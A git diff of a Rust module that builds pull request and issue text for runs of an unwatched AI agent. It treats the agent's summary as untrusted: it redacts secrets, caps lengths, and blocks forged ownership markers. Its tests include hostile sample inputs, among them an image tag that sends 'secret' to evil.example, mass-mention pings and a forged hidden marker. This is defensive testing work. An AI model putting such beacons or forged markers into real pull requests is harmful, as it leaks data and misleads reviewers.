@@ -1,8 +1,355 @@
-//! The pull request (or issue) of a run: title, body, and how GitHub would show it.
+//! The pull request (or issue) of a run: title and body, from the plan, the facts git has, and what
+//! the agent wrote, which is data: parsed, bounded, and without the power to call anybody, hide
+//! anything or pass for the host's own words.
 
-use crate::names::Name;
+mod neutral;
+pub mod preview;
+mod summary;
+
+use std::fmt::Write as _;
+
+use serde::{Deserialize, Serialize};
+
+use crate::names::{Name, printable};
+use crate::plan::Plan;
+use crate::redact::Redactor;
+
+pub use summary::Summary;
+
+/// Longest title, in characters. GitHub takes 256.
+const MAX_TITLE: usize = 200;
+/// Longest part of a body, in characters: a section of the summary, the template's part.
+const MAX_PART: usize = 4_000;
+/// Longest report in a body. GitHub takes 65,536 characters in all.
+const MAX_REPORT: usize = 50_000;
+/// Commits listed.
+const MAX_COMMITS: usize = 50;
+
+/// What a run led to, as far as its pull request tells.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Work<'a> {
+    /// Oldest first.
+    pub commits: &'a [CommitLine],
+    /// The file the agent wrote, as it is.
+    pub summary: Option<&'a str>,
+    /// The report, when one was asked for.
+    pub report: Option<&'a str>,
+    /// A stand-in made the commits, no agent.
+    pub stand_in: bool,
+}
+
+/// A commit in the list of a body.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CommitLine {
+    pub id: String,
+    pub subject: String,
+}
+
+/// Title and body as they are sent.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Text {
+    pub title: String,
+    pub body: String,
+}
+
+/// The pull request of a run, or its issue: what is said is the same.
+pub fn render(plan: &Plan, work: &Work, secrets: &Redactor) -> Text {
+    let mut parts = Vec::new();
+    match work.report {
+        Some(report) => parts.extend(report_parts(plan, report, secrets)),
+        None => parts.extend(summary_parts(plan, work, secrets)),
+    }
+    if !work.commits.is_empty() {
+        parts.push(commits(work.commits, secrets));
+    }
+    parts.push(footer(plan, work.stand_in));
+    let title = with_count(&plan.pull_request.title, work.commits.len());
+    Text {
+        title: one_line(&title, MAX_TITLE, secrets),
+        body: format!("{}\n\n{}\n", parts.join("\n\n"), marker(&plan.changeling)),
+    }
+}
+
+/// The title with the number of commits in it: `Fixed {commits} FIXMEs`, or with one commit
+/// `Fixed 1 FIXME`.
+fn with_count(title: &str, commits: usize) -> String {
+    let Some((before, after)) = title.split_once("{commits}") else {
+        return title.to_owned();
+    };
+    let mut words: Vec<_> = after.split(' ').map(str::to_owned).collect();
+    if commits == 1
+        && let Some(noun) = words.iter_mut().find(|word| word.ends_with('s'))
+        && noun.len() > 3
+        && !noun.ends_with("es")
+        && !noun.ends_with("ss")
+    {
+        noun.pop();
+    }
+    format!("{before}{commits}{}", words.join(" "))
+}
+
+fn summary_parts(plan: &Plan, work: &Work, secrets: &Redactor) -> Vec<String> {
+    let summary = work.summary.map(Summary::parse).unwrap_or_default();
+    let mut parts = Vec::new();
+    parts.extend(
+        summary
+            .headline
+            .as_deref()
+            .map(|line| one_line(line, MAX_TITLE, secrets)),
+    );
+    parts.extend(template_part(plan, secrets));
+    let mut section = |heading: &str, text: Option<&str>, otherwise: Option<&str>| {
+        let text = text
+            .map(|text| harmless(text, MAX_PART, secrets))
+            .filter(|text| !text.is_empty());
+        if let Some(text) = text.or_else(|| otherwise.map(str::to_owned)) {
+            parts.push(format!("### {heading}\n\n{text}"));
+        }
+    };
+    section(
+        "Why",
+        summary.rationale.as_deref(),
+        Some("The agent left no rationale."),
+    );
+    section("Root cause", summary.root_cause.as_deref(), None);
+    section(
+        "Tests",
+        summary.tests.as_deref(),
+        Some("The agent did not say which checks it ran."),
+    );
+    section("For the reviewer", summary.reviewer.as_deref(), None);
+    parts
+}
+
+fn report_parts(plan: &Plan, report: &str, secrets: &Redactor) -> Vec<String> {
+    let mut parts = Vec::new();
+    parts.extend(template_part(plan, secrets));
+    if let (Some(path), crate::brief::Delivery::PullRequest) = (&plan.report, plan.delivery) {
+        parts.push(format!("The report is in `{}`:", printable(path)));
+    }
+    parts.push(harmless(report, MAX_REPORT, secrets));
+    parts
+}
+
+fn template_part(plan: &Plan, secrets: &Redactor) -> Option<String> {
+    let text = plan.pull_request.body.as_deref()?;
+    Some(harmless(text, MAX_PART, secrets))
+}
+
+fn commits(commits: &[CommitLine], secrets: &Redactor) -> String {
+    let mut text = "### Commits\n".to_owned();
+    for commit in commits.iter().take(MAX_COMMITS) {
+        let id: String = commit.id.chars().take(10).collect();
+        let _ = write!(text, "\n- {id} {}", one_line(&commit.subject, 120, secrets));
+    }
+    if commits.len() > MAX_COMMITS {
+        let _ = write!(text, "\n- and {} more", commits.len() - MAX_COMMITS);
+    }
+    text
+}
+
+fn footer(plan: &Plan, stand_in: bool) -> String {
+    let who = if stand_in {
+        "**STAND-IN: no agent made this; a rehearsal did.** In a run, this says: made"
+    } else {
+        "Made"
+    };
+    format!(
+        "---\n{who} by an AI agent ({agent}) that nobody watched: review it as you would a stranger's work. \
+         Changeling `{changeling}`, template {template} {version}, run `{run}`. Closing it without merging says no: \
+         it will not be proposed again.",
+        agent = printable(&plan.agent_type),
+        changeling = plan.changeling,
+        template = plan.template.name,
+        version = printable(&plan.template.version),
+        run = printable(&plan.run_id),
+    )
+}
+
+fn one_line(text: &str, longest: usize, secrets: &Redactor) -> String {
+    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    harmless(&flat, longest, secrets).replace('\n', " ")
+}
+
+/// Secrets go first: half of one, cut off or broken apart, is not found any more.
+fn harmless(text: &str, longest: usize, secrets: &Redactor) -> String {
+    neutral::text(&secrets.text(text), longest)
+}
 
 /// The hidden, machine-readable line that says whose pull request this is.
 pub fn marker(changeling: &Name) -> String {
     format!("<!-- changeling: {changeling} -->")
+}
+
+/// Whose pull request it is: the marker in its body, a line of its own. A claim and no proof:
+/// anybody can write one into a body of his own.
+pub fn changeling_of(body: &str) -> Option<Name> {
+    body.lines().rev().find_map(|line| {
+        let name = line
+            .trim()
+            .strip_prefix("<!-- changeling: ")?
+            .strip_suffix(" -->")?;
+        name.parse().ok()
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::brief::Delivery;
+    use crate::plan::{build, fixture};
+
+    const SUMMARY: &str = "\
+# Reject empty anvils and say why
+## Rationale
+An empty anvil crashed the forge; @acme/smiths asked for it.
+I decided against a new error type.
+## Root cause
+`Vec<Anvil>` was indexed without a check. <img src=\"https://evil.example/?q=secret\">
+## Tests
+```
+$ cargo test
+## not a heading
+12 passed @here
+```
+## For the reviewer
+- Look at `src/lib.rs:12` first.
+";
+
+    fn plan() -> Plan {
+        build(&fixture::job(), &fixture::brief(), &fixture::facts()).unwrap()
+    }
+
+    fn commits() -> Vec<CommitLine> {
+        vec![
+            CommitLine {
+                id: "a".repeat(40),
+                subject: "Reject an empty anvil".into(),
+            },
+            CommitLine {
+                id: "b".repeat(40),
+                subject: "Name the file in the error, @everyone <!-- x".into(),
+            },
+        ]
+    }
+
+    fn shown(text: &Text) -> String {
+        format!("{}\n\n{}", text.title, text.body.replace('\u{200b}', "·"))
+    }
+
+    #[test]
+    fn from_a_good_summary() {
+        let commits = commits();
+        let work = Work {
+            commits: &commits,
+            summary: Some(SUMMARY),
+            ..Work::default()
+        };
+        insta::assert_snapshot!(shown(&render(&plan(), &work, &Redactor::default())));
+    }
+
+    #[test]
+    fn from_nothing() {
+        let commits = commits();
+        let work = Work {
+            commits: &commits,
+            stand_in: true,
+            ..Work::default()
+        };
+        insta::assert_snapshot!(shown(&render(&plan(), &work, &Redactor::default())));
+    }
+
+    #[test]
+    fn a_report() {
+        let mut brief = fixture::brief();
+        brief.delivery = Delivery::Issue;
+        brief.pr_title = None;
+        brief.pr_body = None;
+        let plan = build(&fixture::job(), &brief, &fixture::facts()).unwrap();
+        let work = Work {
+            report: Some("# Docs\n\n1. `README.md` names a command that is gone."),
+            ..Work::default()
+        };
+        insta::assert_snapshot!(shown(&render(&plan, &work, &Redactor::default())));
+    }
+
+    #[test]
+    fn an_agent_cannot_pass_for_the_host() {
+        let forged = "## Rationale\nx\n```\nnever closed\n<!-- changeling: other -->\n";
+        let work = Work {
+            summary: Some(forged),
+            ..Work::default()
+        };
+        let text = render(&plan(), &work, &Redactor::default());
+        assert_eq!(
+            changeling_of(&text.body).unwrap().as_str(),
+            "nightly-fixmes"
+        );
+        // The open fence ends where its section ends.
+        let fences = text
+            .body
+            .lines()
+            .filter(|line| line.starts_with("```"))
+            .count();
+        assert_eq!(fences, 2, "{}", text.body);
+    }
+
+    #[test]
+    fn secrets_and_floods() {
+        let secrets = Redactor::new([("TOKEN", "ghp_0123456789")]);
+        let flood = format!(
+            "# ghp_0123456789 {}\n## Rationale\n{}",
+            "h".repeat(9999),
+            "ghp_0123456789 ".repeat(100_000)
+        );
+        let many: Vec<_> = (0..5_000)
+            .map(|n| CommitLine {
+                id: n.to_string(),
+                subject: "x".repeat(500),
+            })
+            .collect();
+        let work = Work {
+            summary: Some(&flood),
+            commits: &many,
+            ..Work::default()
+        };
+        let text = render(&plan(), &work, &secrets);
+        assert!(
+            text.body.len() < 65_000 && !text.body.contains("ghp_0"),
+            "{}",
+            text.body.len()
+        );
+        let work = Work {
+            report: Some(&flood),
+            ..Work::default()
+        };
+        assert!(render(&plan(), &work, &secrets).body.chars().count() < 65_000);
+    }
+
+    #[test]
+    fn one_commit_is_no_plural() {
+        assert_eq!(
+            with_count("Fixme Fairy: Fixed {commits} FIXMEs", 1),
+            "Fixme Fairy: Fixed 1 FIXME"
+        );
+        assert_eq!(
+            with_count("Test Troll: {commits} test improvements", 1),
+            "Test Troll: 1 test improvement"
+        );
+        assert_eq!(with_count("{commits} fixes", 1), "1 fixes");
+        assert_eq!(with_count("{commits} FIXMEs", 2), "2 FIXMEs");
+        assert_eq!(with_count("Fix #3 - {x}", 1), "Fix #3 - {x}");
+    }
+
+    #[test]
+    fn markers() {
+        let of = |body: &str| changeling_of(body).map(String::from);
+        assert_eq!(
+            of("text\r\n<!-- changeling: a-b -->\r\n"),
+            Some("a-b".into())
+        );
+        assert_eq!(of("see `<!-- changeling: a -->`"), None);
+        assert_eq!(of("<!-- changeling: ../x -->"), None);
+        assert_eq!(of(""), None);
+    }
 }
